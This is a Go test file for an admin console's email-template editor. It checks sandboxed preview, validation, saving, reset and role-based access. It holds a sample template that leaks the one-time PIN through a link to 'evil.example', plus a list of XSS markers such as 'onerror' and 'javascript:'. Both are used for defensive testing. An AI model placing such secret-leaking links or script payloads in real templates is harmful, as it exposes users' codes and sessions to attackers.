package server

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// TestEmailTemplatesConsole drives the console's Email templates pages over HTTP: list, edit, preview
// in a sandboxed frame, field errors, save, reset with confirmation, and who may see and change what.
func TestEmailTemplatesConsole(t *testing.T) {
	e := newAPIEnv(t, "", nil)
	_, ta := e.createTenant("Tplconsole")
	for _, acct := range []string{
		`{"emailAddress":"reader@tplconsole.example.com","firstName":"Rea","lastName":"Der","password":"Reader-pw-12345","roles":["SYSTEM_READ_ONLY"]}`,
		`{"emailAddress":"dev@tplconsole.example.com","firstName":"Dev","lastName":"Ops","password":"Device-pw-12345","roles":["DEVICE_MANAGEMENT"]}`,
	} {
		e.call("POST", "/api/v1/accounts", ta, `{"accounts":[`+acct+`]}`).must(t, 200, nil)
	}
	user, pw, _ := strings.Cut(ta, ":")
	admin := signInAt(t, e.url, &http.Client{}, user, pw)

	admin.expect(admin.do("GET", "/console", nil), 200, "overview", `href="/console/emailtemplates"`)
	list := admin.do("GET", "/console/emailtemplates", nil)
	admin.expect(list, 200, "list", `data-name="invitation_pin"`, `data-name="admin_invitation"`, `data-name="support_admins"`)
	if n := strings.Count(list.body, `<tr data-name=`); n != 9 || strings.Contains(list.body, "Customized") {
		t.Errorf("list shows %d emails (want 9), or one customized", n)
	}
	edit := admin.do("GET", "/console/emailtemplates/invitation_pin", nil)
	admin.expect(edit, 200, "edit page", `{{template &#34;code&#34; .PIN}}`, `name="subject"`, `id="f-html"`, `id="f-text"`,
		`{{.PIN}}`, "one-time registration PIN", `id="save"`, `id="preview"`)
	admin.expect(admin.do("GET", "/console/emailtemplates/nope", nil), 404, "unknown email")
	admin.expect(edit, 200, "edit page's hint on the PIN", `id="secret-placement"`, "never inside a tag or in the subject")
	if strings.Contains(admin.do("GET", "/console/emailtemplates/invitation_password", nil).body, `id="secret-placement"`) {
		t.Error("an email without a secret shows the hint on secrets")
	}

	src := url.Values{"subject": {"Join {{.TenantName}}"}, "html": {hostileHTML}, "text": {"Custom welcome. Code {{.PIN}}"}}
	preview := url.Values{"action": {"preview"}}
	for k, v := range src {
		preview[k] = v
	}
	pv := admin.do("POST", "/console/emailtemplates/invitation_pin", preview)
	admin.expect(pv, 200, "preview", `sandbox=""`, "srcdoc=", "Preview: Join Example Corp", "Custom welcome. Code 482913")
	if csp := pv.header.Get("Content-Security-Policy"); !strings.Contains(csp, "'unsafe-inline'") || strings.Contains(csp, "script-src 'unsafe") {
		t.Errorf("preview CSP %q", csp)
	}
	_, frame, _ := strings.Cut(pv.body, "srcdoc=")
	frame, _, _ = strings.Cut(frame, "</iframe>")
	for _, bad := range []string{"script", "alert(", "onerror", "onclick", "javascript:", "iframe"} {
		if strings.Contains(frame, bad) {
			t.Errorf("preview frame holds %q", bad)
		}
	}
	if strings.Contains(admin.do("GET", "/console/emailtemplates", nil).body, "Customized") {
		t.Error("preview saved the template")
	}

	// A field error is shown next to its field, with the source kept.
	bad := url.Values{"action": {"save"}, "subject": {"Hi"}, "html": {"<p>{{.PIN}}</p>"}, "text": {"no code"}}
	r := admin.do("POST", "/console/emailtemplates/invitation_pin", bad)
	admin.expect(r, 400, "save without the PIN in text", `id="f-text-error"`, "{{.PIN}}", "no code</textarea>")
	r = admin.do("POST", "/console/emailtemplates/invitation_pin", url.Values{"action": {"save"}, "subject": {"Hi"},
		"html": {"<p>{{.PIN}</p>"}, "text": {"{{.PIN}}"}})
	admin.expect(r, 400, "save with a syntax error", `id="f-html-error"`)
	r = admin.do("POST", "/console/emailtemplates/invitation_pin", url.Values{"action": {"save"}, "subject": {"Hi"},
		"html": {`<a href="https://evil.example/?{{.PIN}}">help</a>{{template "code" .PIN}}`}, "text": {"{{.PIN}}"}})
	admin.expect(r, 400, "save with the PIN in a link", `id="f-html-error"`, "must not be inside a tag")

	save := url.Values{"action": {"save"}}
	for k, v := range src {
		save[k] = v
	}
	r = admin.do("POST", "/console/emailtemplates/invitation_pin", save)
	if r.status != http.StatusSeeOther || r.header.Get("Location") != "/console/emailtemplates/invitation_pin?saved=1" {
		t.Fatalf("save: %d to %q\n%s", r.status, r.header.Get("Location"), r.body)
	}
	saved := admin.do("GET", "/console/emailtemplates/invitation_pin?saved=1", nil)
	admin.expect(saved, 200, "after save", `id="template-saved"`, "Customized", `id="reset"`, "Custom welcome {{.FirstName}}")
	if strings.Contains(saved.body, "&lt;script") || strings.Contains(saved.body, "onerror") {
		t.Error("the saved source still holds the script or the event handler")
	}
	admin.expect(admin.do("GET", "/console/emailtemplates", nil), 200, "list after save", "Customized")

	// Reset asks for confirmation first.
	r = admin.do("POST", "/console/emailtemplates/invitation_pin/reset", url.Values{})
	admin.expect(r, 400, "reset without confirmation", `id="f-confirm-error"`)
	admin.expect(admin.do("GET", "/console/emailtemplates", nil), 200, "list after unconfirmed reset", "Customized")
	r = admin.do("POST", "/console/emailtemplates/invitation_pin/reset", url.Values{"confirm": {"yes"}})
	if r.status != http.StatusSeeOther {
		t.Fatalf("reset: %d\n%s", r.status, r.body)
	}
	if body := admin.do("GET", "/console/emailtemplates", nil).body; strings.Contains(body, "Customized") {
		t.Error("still customized after reset")
	}

	// SYSTEM_READ_ONLY reads and previews but cannot save; DEVICE_MANAGEMENT does not see the pages.
	reader := signInAt(t, e.url, &http.Client{}, "reader@tplconsole.example.com", "Reader-pw-12345")
	page := reader.do("GET", "/console/emailtemplates/invitation_pin", nil)
	reader.expect(page, 200, "reader's edit page", `id="preview"`)
	if strings.Contains(page.body, `id="save"`) {
		t.Error("a read-only user is offered Save")
	}
	reader.expect(reader.do("POST", "/console/emailtemplates/invitation_pin", preview), 200, "reader's preview", "srcdoc=")
	reader.expect(reader.do("POST", "/console/emailtemplates/invitation_pin", save), 403, "reader's save")
	dev := signInAt(t, e.url, &http.Client{}, "dev@tplconsole.example.com", "Device-pw-12345")
	if strings.Contains(dev.do("GET", "/console", nil).body, `href="/console/emailtemplates"`) {
		t.Error("a user without SystemRead sees the Email templates link")
	}
	dev.expect(dev.do("GET", "/console/emailtemplates", nil), 403, "device manager's list")
}
